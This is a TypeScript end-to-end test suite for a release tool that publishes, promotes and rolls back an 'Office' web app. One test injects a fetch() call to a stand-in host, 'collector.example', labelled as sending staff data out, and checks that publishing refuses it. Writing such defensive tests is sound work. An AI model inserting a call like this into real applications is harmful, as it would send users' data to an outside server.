import type { ReleaseChannelReply } from '@portico/contracts';
import { inRoot } from '@portico/tools/root';
import { ownCheckout, release, type OwnCheckout } from '../fixtures/own-checkout.ts';
import { startOwnProduct, type Product } from '../fixtures/product.ts';
import { publishBuilt } from '../fixtures/publish.ts';
import { staffOf } from '../fixtures/staff-of.ts';
import { expect, test } from '../fixtures/test.ts';
import { SOAK } from '../fixtures/soak.ts';

const MAIN = 'src/main.tsx';
const WHOLE = 'const page = readPageData();';

test.describe.configure({ mode: 'serial', timeout: 240_000 });

let product: Product;
let checkout: OwnCheckout;
test.beforeAll(async () => {
  product = await startOwnProduct();
  checkout = await ownCheckout('office');
});
test.afterAll(async () => {
  await product.stop();
  await checkout.remove();
});

const publish = (...args: string[]) =>
  release(product, 'publish', 'office', '--folder', checkout.folder, ...args);

async function channel(): Promise<ReleaseChannelReply> {
  return (await (await staffOf(product)('GET', '/service/releases/office')).json()) as ReleaseChannelReply;
}

test('an Office that calls other hosts, or never reaches its login, is rejected with the reason @soak', async () => {
  const { live } = await channel();

  await test.step('It sends staff data to another server', async () => {
    const telling = `void fetch('https://collector.example/').catch(() => undefined);\n${WHOLE}`;
    await checkout.change(MAIN, WHOLE, telling);
    const { code, output } = await publish('--promote');
    expect(code, output).toBe(1);
    expect(output).toContain('collector.example');
    await checkout.change(MAIN, telling, WHOLE);
  });

  await test.step('It crashes on startup', async () => {
    const breaking = `if (location.href) throw new Error('It breaks at its start.');\n${WHOLE}`;
    await checkout.change(MAIN, WHOLE, breaking);
    const { code, output } = await publish('--promote');
    expect(code, output).toBe(1);
    expect(output).toContain('the login did not appear');
    expect(output).toContain('It breaks at its start.');
    await checkout.change(MAIN, breaking, WHOLE);
  });

  const now = await channel();
  expect(now.live).toBe(live);
  expect(now.versions.filter(({ version }) => version !== live).map(({ check: { state } }) => state)).toEqual(
    ['refused', 'refused'],
  );
});

test(`a valid Office is live after its promotion, and one command rolls it back ${SOAK}`, async ({
  page,
}) => {
  const { live } = await channel();
  const { version } = await publishBuilt(product, inRoot('apps/office/dist'), {
    mark: 'sound',
    file: ({ entries }) => String(entries.scripts?.[0]),
    change: (script) => script.replace('Log in with a passkey', 'Come in with a passkey'),
  });
  const { code, output } = await release(product, 'promote', 'office', version);
  expect(code, output).toBe(0);
  const office = `http://office.localhost:${new URL(product.url).port}`;
  const opened = async (label: string) =>
    expect(async () => {
      await page.goto(office);
      await expect(page.getByRole('button', { name: label })).toBeVisible({ timeout: 5_000 });
    }).toPass();
  await opened('Come in with a passkey');
  expect((await release(product, 'rollback', 'office')).code).toBe(0);
  await opened('Log in with a passkey');
  expect((await channel()).live).toBe(live);
});
